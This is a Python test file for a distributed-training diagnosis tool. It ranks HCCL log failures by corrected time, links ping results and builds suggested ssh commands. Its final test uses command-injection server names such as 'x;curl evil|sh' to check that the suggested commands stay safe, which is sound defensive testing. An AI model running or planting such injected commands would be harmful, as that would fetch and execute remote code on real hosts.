"""Diagnosis across servers: first failure by corrected log time, victims, links to the ping
matrix and discovery, one headline."""

from __future__ import annotations

from console.core.diagnosis import LogSource, RankPlace, classify_all, diagnose
from console.core.pingresults import PingMatrix, ProbeResult
from console.core.planning.ping import Probe
from tests.unit.pingfixtures import device_ip, host, make_inventory

LOSSY = (
    "device 3 PING {ip}\nrecv seq=0,time=0.05ms\nrecv time out seq=1\nrecv seq=2,time=0.05ms\n"
    "3 packets transmitted, 2 received, 33.33% packet loss\n"
)


def _places(servers: int = 2, per: int = 8) -> list[RankPlace]:
    return [
        RankPlace(rank=s * per + d, server=host(s), device_id=d, device_ip=device_ip(s, d))
        for s in range(servers)
        for d in range(per)
    ]


def _plog(ts: str, text: str) -> str:
    return f"[ERROR] HCCL(4242,python3):2026-01-05-{ts} [hccl_socket_manager.cc:1] [4242]{text}"


def _link_row(local: int, remote: int, role: str = "client") -> str:
    ls, ld, rs, rd = local // 8, local % 8, remote // 8, remote % 8
    return _plog(
        "10:02:00.000.100",
        f"   |  {device_ip(rs, rd)}({remote})   |  16666  |   "
        f"{device_ip(ls, ld)}({local})   |  1234  |  {role}  | time out |"
        f"   DISABLE  | LinkInfo",
    )


def _timeout_log(local: int, remote: int, ts: str = "10:02:00.000.000") -> str:
    return "\n".join(
        [
            _plog(ts, f"[Wait][LinkEstablish]wait socket establish timeout, role[1] rank[{local}] timeout[120 s]"),
            _plog(ts, "   _________________________LINK_ERROR_INFO___________________________"),
            _link_row(local, remote),
        ]
    )


def _matrix(loss: bool) -> PingMatrix:
    probe = Probe(
        src_host=host(0),
        src_server_id=host(0),
        src_device=3,
        src_ip=device_ip(0, 3),
        dst_host=host(1),
        dst_server_id=host(1),
        dst_device=3,
        dst_ip=device_ip(1, 3),
    )
    out = (
        LOSSY.format(ip=probe.dst_ip)
        if loss
        else LOSSY.format(ip=probe.dst_ip)
        .replace("recv time out seq=1", "recv seq=1,time=0.05ms")
        .replace("2 received, 33.33%", "3 received, 0.00%")
    )
    return PingMatrix(pattern="cross", hosts=[host(0), host(1)], results=[ProbeResult.from_output(probe, 0, out)])


def _sources_pair() -> list[LogSource]:
    return [
        LogSource(name="a/plog-1.log", server=host(0), text=_timeout_log(3, 11)),
        LogSource(name="b/plog-2.log", server=host(1), text=_timeout_log(11, 3)),
    ]


def test_socket_timeout_between_two_ranks_is_shown_with_the_ping_of_that_pair():
    d = diagnose(classify_all(_sources_pair()), places=_places(), ping=_matrix(loss=True))
    first = d.first_cause()
    assert first is not None and first.cause == "socket_timeout"
    assert {first.rank, first.remote_rank} == {3, 11}
    assert {first.server, first.remote_server} == {host(0), host(1)}
    ping = [lk for lk in d.links if lk.kind == "ping"]
    assert len(ping) == 1 and ping[0].loss_pct == 33.33
    assert ping[0].message == f"{host(0)} dev 3 → {host(1)} dev 3: 33.33 % loss"
    assert "rank 3" in d.headline and "rank 11" in d.headline and "33.33 % loss" in d.headline
    assert host(0) in d.headline and host(1) in d.headline


def test_the_ping_of_the_pair_is_found_when_ssh_names_differ_from_server_ids():
    """The TUI pings by SSH name (node01) while the rank table says server_id (an address):
    the headline still quotes that pair's loss, not "never pinged"."""
    m = _matrix(loss=True)
    r = m.results[0]
    named = r.probe.model_copy(update={"src_host": "node01", "dst_host": "node02"})
    m = PingMatrix(pattern="cross", hosts=["node01", "node02"], results=[r.model_copy(update={"probe": named})])
    d = diagnose(classify_all(_sources_pair()), places=_places(), ping=m)
    assert "last ping of that pair: 33.33 % loss" in d.headline, d.headline


def test_a_pair_never_pinged_offers_the_command():
    d = diagnose(classify_all(_sources_pair()), places=_places(), ping=None)
    untested = [lk for lk in d.links if lk.kind == "ping_untested"]
    assert len(untested) == 1
    assert untested[0].command is not None and "hccn_tool -i 3 -ping -g address" in untested[0].command
    assert "never pinged" in d.headline


def test_first_failure_by_log_time_corrected_by_clock_offsets():
    early_b = [
        LogSource(
            name="a",
            server=host(0),
            text=_plog("10:00:05.000.000", "listen on ip[10.20.0.4] and specific port[16666] fail."),
        ),
        LogSource(
            name="b",
            server=host(1),
            text="EI0001: " + _plog("10:00:03.000.000", "Value 1000 for environment variable HCCL_RDMA_SL is invalid."),
        ),
    ]
    causes = classify_all(early_b)
    assert diagnose(causes, places=_places()).first_cause().cause == "env_invalid"
    # offset = server clock - console clock. a 3 s ahead: its 10:00:05 is 10:00:02 console time;
    # b 5 s behind: its 10:00:03 is 10:00:08. Now a came first.
    d = diagnose(causes, places=_places(), offsets={host(0): 3.0, host(1): -5.0})
    assert d.first_cause().cause == "port_in_use"
    assert d.first_cause().corrected_ts < d.causes[1].corrected_ts
    assert d.first_cause().rank == 3 and d.first_cause().device_id == 3


def test_victims_waiting_on_one_missing_peer():
    sources = [LogSource(name=f"r{r}", server=host(r // 8), text=_timeout_log(r, 12)) for r in (0, 4, 9)]
    d = diagnose(classify_all(sources), places=_places())
    assert any(lk.kind == "missing_peer" and lk.dst_device == 4 for lk in d.links)
    assert "rank 12" in d.headline and "ranks 0,4,9" in d.headline


def test_a_root_cause_beats_the_timeouts_it_caused():
    sources = [
        *_sources_pair(),
        LogSource(
            name="r5.log",
            server=host(0),
            rank=5,
            text="RuntimeError: NPU out of memory. Tried to allocate 2.00 GiB (NPU 5; 60 GiB)",
        ),
    ]
    d = diagnose(classify_all(sources), places=_places())
    assert d.first_cause().cause == "device_oom"
    assert d.victims == [3, 11]
    assert "2 other rank(s)" in d.headline


def test_rank_logs_without_times_are_ordered_by_exit_time():
    sources = [
        LogSource(name="rank-2.log", server=host(0), rank=2, text="ValueError: bad config"),
        LogSource(name="rank-9.log", server=host(1), rank=9, text="KeyError: 'x' Error"),
    ]
    d = diagnose(classify_all(sources), places=_places(), exits={9: 100.0, 2: 101.0})
    assert d.first_cause().rank == 9


def test_ip_mismatch_is_shown_next_to_discovery_and_busy_port_next_to_npu_processes():
    inv = make_inventory()
    inv.servers[1].devices[3].busy_pids = [777]
    text = (
        "EI0014: the IP address(10.20.1.99) in the ranktable is inconsistent with the IP "
        f"address({device_ip(1, 3)}) of the network adapter"
    )
    sources = [
        LogSource(name="x", server=host(1), rank=11, text=text),
        LogSource(
            name="y", server=host(1), rank=11, text=f"listen on ip[{device_ip(1, 3)}] and specific port[16666] fail"
        ),
    ]
    d = diagnose(classify_all(sources), places=_places(), inventory=inv)
    ip = next(lk for lk in d.links if lk.kind == "discovery_ip")
    assert ip.src_host == host(1) and ip.src_device == 3 and "10.20.1.99" in ip.message
    busy = next(lk for lk in d.links if lk.kind == "npu_processes")
    assert "777" in busy.message


def test_tls_mismatch_is_shown_next_to_the_tls_finding():
    from console.core.diagnostic import diagnostic

    inv = make_inventory()
    inv.findings.append(diagnostic("error", "tls_mismatch", "TLS switch differs: on 127.0.0.11"))
    d = diagnose(
        classify_all([LogSource(name="x", text='EI0016: Value Disable for config "tls" is invalid.')]), inventory=inv
    )
    assert [lk.kind for lk in d.links] == ["tls"]


def test_no_causes_gives_a_plain_headline_and_json_shape():
    d = diagnose([])
    doc = d.to_json()
    assert doc["first"] is None and doc["causes"] == [] and "no known failure" in doc["headline"]
    d = diagnose(classify_all(_sources_pair()), places=_places())
    entry = d.to_json()["causes"][0]
    for key in ("code", "cause", "server", "ranks", "ips", "ports", "phase", "lines", "next_check"):
        assert key in entry


def test_suggested_commands_are_quoted_and_none_for_a_name_that_is_no_ssh_target():
    """A server name from a received rank table is data: ``x;curl evil|sh`` must not become a
    command that runs it when pasted."""
    evil = "x;curl evil|sh"
    places = [p.model_copy(update={"server": evil}) if p.server == host(0) else p for p in _places()]
    sources = [
        LogSource(name="a/plog-1.log", server=evil, text=_timeout_log(3, 11)),
        LogSource(name="b/plog-2.log", server=host(1), text=_timeout_log(11, 3)),
    ]
    d = diagnose(classify_all(sources), places=places, ping=None)
    commands = [lk.command for lk in d.links if lk.command]
    assert all("curl" not in c for c in commands), commands
    assert [lk.command for lk in d.links if lk.kind == "ping_untested" and lk.src_host == evil] == [None]
    bad = "h;touch p"
    inv = make_inventory()
    inv.servers[1].host = bad
    inv.servers[1].devices[3].busy_pids = [777]
    text = (
        "EI0014: the IP address(10.20.1.99) in the ranktable is inconsistent with the IP "
        f"address({device_ip(1, 3)}) of the network adapter"
    )
    sources = [
        LogSource(name="x", server=bad, rank=11, text=text),
        LogSource(name="y", server=bad, rank=11, text=f"listen on ip[{device_ip(1, 3)}] and specific port[16666] fail"),
    ]
    places = [p.model_copy(update={"server": bad}) if p.server == host(1) else p for p in _places()]
    d = diagnose(classify_all(sources), places=places, inventory=inv)
    shown = {lk.kind: lk.command for lk in d.links if lk.kind in ("discovery_ip", "npu_processes")}
    assert shown == {"discovery_ip": None, "npu_processes": None}
    d = diagnose(classify_all(_sources_pair()), places=_places(), ping=None)
    (untested,) = [lk for lk in d.links if lk.kind == "ping_untested"]
    assert untested.command is not None and untested.command.startswith(f"ssh {host(0)} hccn_tool -i 3")
